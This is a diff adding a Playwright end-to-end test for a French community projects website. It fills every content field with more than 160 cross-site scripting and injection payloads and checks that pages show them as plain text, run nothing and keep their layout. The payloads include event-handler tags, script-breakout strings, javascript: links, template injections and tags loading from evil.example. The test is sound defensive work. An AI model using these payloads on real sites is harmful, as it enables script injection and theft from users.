@@ -1,0 +1,168 @@
+import {
+	creerArticle,
+	creerBesoin,
+	creerEtape,
+	creerProjet,
+	creerTheme,
+} from "#e2e/fixtures/contenu";
+import { enAnglais } from "#e2e/fixtures/lecture";
+import { expect, test } from "#e2e/fixtures/site";
+
+const ACT = "window.__pris=1";
+
+/** Ways to make a page run something: markup, addresses, endings of what surrounds the text. */
+const CHARGES: readonly string[] = [
+	...["img", "svg", "body", "video", "audio", "iframe", "input", "details"]
+		.flatMap((nom) =>
+			["onerror", "onload", "onfocus", "ontoggle", "onpointerenter"].flatMap(
+				(acte) => [
+					`<${nom} src=x ${acte}=${ACT}>`,
+					`"><${nom} autofocus open ${acte}="${ACT}">`,
+					`'><${nom}/src/${acte}='${ACT}'>`,
+				],
+			),
+		)
+		.slice(0, 120),
+	...["</script>", "</title>", "</textarea>", "</style>", "-->", "]]>"].flatMap(
+		(fin) => [
+			`${fin}<script>${ACT}</script>`,
+			`${fin}<script src=//evil.example/x.js></script>`,
+		],
+	),
+	...["javascript", "JaVaScRiPt", "java\tscript", "data:text/html,", "vbscript"]
+		.map((schema) => `${schema}:${ACT}`)
+		.flatMap((adresse) => [
+			adresse,
+			`<a href="${adresse}">x</a>`,
+			`[x](${adresse})`,
+			`https://example.org/"onmouseover="${ACT}`,
+		]),
+	...[
+		"{{constructor.constructor('%')()}}",
+		"$" + "{%}",
+		"<%= % %>",
+		"#{%}",
+	].map((modele) => modele.replace("%", ACT)),
+	"&lt;script&gt;alert(1)&lt;/script&gt;",
+	"<meta http-equiv=refresh content=0;url=//evil.example>",
+	"<base href=//evil.example/>",
+	"<form action=//evil.example><button>x</button></form>",
+	"<link rel=stylesheet href=//evil.example/x.css>",
+	"<style>*{display:none}</style>",
+	"<math><mtext></form><form><mglyph><style></math><img src=x onerror=1>",
+	"<svg><animate onbegin=1 attributeName=x></svg>",
+	"<noscript><p title='</noscript><img src=x onerror=1>'>",
+	"\u2028<script>1</script>\u2029",
+];
+
+const CURIOSITES: readonly string[] = [
+	`mot${"interminable".repeat(9)}`,
+	"👩‍👩‍👧‍👦🏳️‍🌈 Z̸͎̾a̴͕͂l̵͇̈g̶͖̋o̷",
+	"مشروع مشترك للجميع, then English",
+	"פרויקט 123 (abc)",
+	"＜ｓｃｒｉｐｔ＞",
+	"%s %d %n \\u0000 $1 NULL",
+];
+
+const TEXTES = [...CHARGES, ...CURIOSITES];
+
+function parts(count: number): string[][] {
+	const size = Math.ceil(TEXTES.length / count);
+	return Array.from({ length: count }, (_, at) =>
+		TEXTES.slice(at * size, (at + 1) * size),
+	);
+}
+
+/** The nth text, cut to what a field may hold. */
+function nth(at: number, max: number): string {
+	return [...(TEXTES[at % TEXTES.length] ?? "")].slice(0, max).join("");
+}
+
+const PAGES = 5;
+
+test("hostile texts in every field are shown as texts: nothing runs, nothing is asked outside, no layout breaks", async ({
+	page,
+	site,
+}) => {
+	test.setTimeout(5 * 60_000);
+	expect(TEXTES.length).toBeGreaterThanOrEqual(160);
+	const { base } = site;
+	const chemins = [
+		"/",
+		"/projets?tri=recents",
+		"/besoins?tri=recents",
+		"/articles",
+	];
+	for (const [rang, lignes] of parts(PAGES).entries()) {
+		const description = lignes.join("\n").slice(0, 5000);
+		const en = { nom: nth(rang + 90, 120), titre: nth(rang + 91, 140) };
+		const theme = await creerTheme(base, { nom: nth(rang + 10, 60) });
+		const projet = await creerProjet(base, {
+			nom: nth(rang * 7, 120),
+			accroche: nth(rang * 7 + 1, 200),
+			description,
+			porteur: nth(rang * 7 + 2, 160),
+			territoire: nth(rang * 7 + 3, 120),
+			usage_ia: description.slice(0, 2000),
+			site_web: rang === 0 ? `javascript:${ACT}` : "pas une adresse",
+			mis_en_avant: true,
+			traductions: { en: { ...en, description } },
+			themes: [theme.id],
+		});
+		const besoin = await creerBesoin(base, {
+			titre: nth(rang * 7 + 4, 140),
+			description,
+			territoire: nth(rang * 7 + 5, 120),
+			theme_id: theme.id,
+			projet_id: projet.id,
+			statut: "developpement",
+			cahier: description,
+			nb_soutiens: 0,
+			depot: rang === 0 ? `javascript:${ACT}` : null,
+			roles: ["code"],
+		});
+		await creerEtape(base, besoin.id, {
+			numero: 1,
+			jour: "2026-11-20",
+			titre: nth(rang * 7 + 6, 140),
+			texte: description,
+		});
+		const article = await creerArticle(base, {
+			titre: nth(rang + 40, 140),
+			resume: nth(rang + 50, 200),
+			auteur: nth(rang + 60, 100),
+			projets: [projet.id],
+		});
+		chemins.push(
+			`/projets/${projet.slug}`,
+			`/besoins/${besoin.slug}`,
+			`/articles/${article.slug}`,
+		);
+	}
+	await page.setViewportSize({ width: 320, height: 640 });
+	for (const chemin of chemins.flatMap((fr) => [fr, enAnglais(fr)])) {
+		const answer = await page.goto(chemin);
+		expect(answer?.status(), chemin).toBe(200);
+		const state = await page.evaluate(() => ({
+			ran: "__pris" in window,
+			width: document.documentElement.scrollWidth,
+			// Our own pages hold none of these in their content.
+			foreign: document.querySelectorAll(
+				"main :is(img, iframe, video, audio, style, base, meta, math, object, embed)",
+			).length,
+			addresses: [...document.querySelectorAll("main a[href]")]
+				.map((node) => node.getAttribute("href") ?? "")
+				.filter((href) => !/^(?:https?:|mailto:|\/|#)/.test(href)),
+		}));
+		expect(state, chemin).toEqual({
+			ran: false,
+			width: 320,
+			foreign: 0,
+			addresses: [],
+		});
+	}
+	await page.goto(chemins[4] ?? "");
+	await expect(
+		page.getByText("<img src=x onerror=window.__pris=1>").first(),
+	).toBeVisible();
+});
